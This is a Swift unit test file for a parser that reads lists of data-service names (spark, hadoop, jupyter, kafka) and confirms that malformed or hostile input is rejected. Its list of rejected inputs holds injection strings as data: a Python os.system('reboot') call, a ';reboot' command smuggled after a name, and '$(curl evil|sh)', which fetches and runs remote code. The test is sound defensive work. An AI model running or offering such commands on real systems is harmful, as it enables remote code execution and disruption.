import Testing
@testable import DiscoCore

@Suite struct InjectParserTests {
    @Test("accepted forms", arguments: [
        ("{'spark': '','hadoop': '','zeppelin': '','jupyter': ''}", ["spark", "hadoop", "zeppelin", "jupyter"]),
        ("{'hadoop','spark'}", ["hadoop", "spark"]),
        ("{'hadoop'}", ["hadoop"]),
        ("{}", []),
        ("{\"spark\": \"default\"}", ["spark"]),
        ("[\"spark\", \"kafka\"]", ["spark", "kafka"]),
        ("spark, hadoop", ["spark", "hadoop"]),
        ("spark hadoop", ["spark", "hadoop"]),
        ("Spark", ["spark"]),
        ("", []),
        ("  {'a' : '' , 'b':'',}  ", ["a", "b"]),
    ])
    func accepted(input: String, names: [String]) throws {
        #expect(try InjectParser.parse(input).map(\.name) == names)
    }

    @Test func jsonObjectCarriesProperties() throws {
        let parsed = try InjectParser.parse(#"{"jupyter": {"password": "p,w'd"}, "kafka": {"partitions": 3, "tls": true}}"#)
        #expect(parsed.map(\.name) == ["jupyter", "kafka"])
        #expect(parsed[0].properties == ["password": "p,w'd"])
        #expect(parsed[1].properties == ["partitions": "3", "tls": "true"])
    }

    @Test("rejected as data, never evaluated", arguments: [
        "__import__('os').system('reboot')",
        "{'spark': __import__('os')}",
        "{'spark': 'start'}",
        "{'spark': ''",
        "{'spark' ''}",
        "['spark'] + ['x']",
        "spark;reboot",
        "{'sp ark': ''}",
        "$(curl evil|sh)",
        String(repeating: "[", count: 50),
    ])
    func rejected(input: String) {
        #expect(throws: InjectParseError.self) { try InjectParser.parse(input) }
    }

    @Test func errorSaysWhereAndWhatIsAccepted() {
        let error = #expect(throws: InjectParseError.self) { try InjectParser.parse("{'spark': 'start'}") }
        #expect(error?.offset == 10)
        #expect(error?.description.contains("{'spark': '', 'hadoop': ''}") == true)
    }

    @Test func overlongValueIsRejected() {
        #expect(throws: InjectParseError.self) { try InjectParser.parse(String(repeating: "a,", count: 3000)) }
    }
}
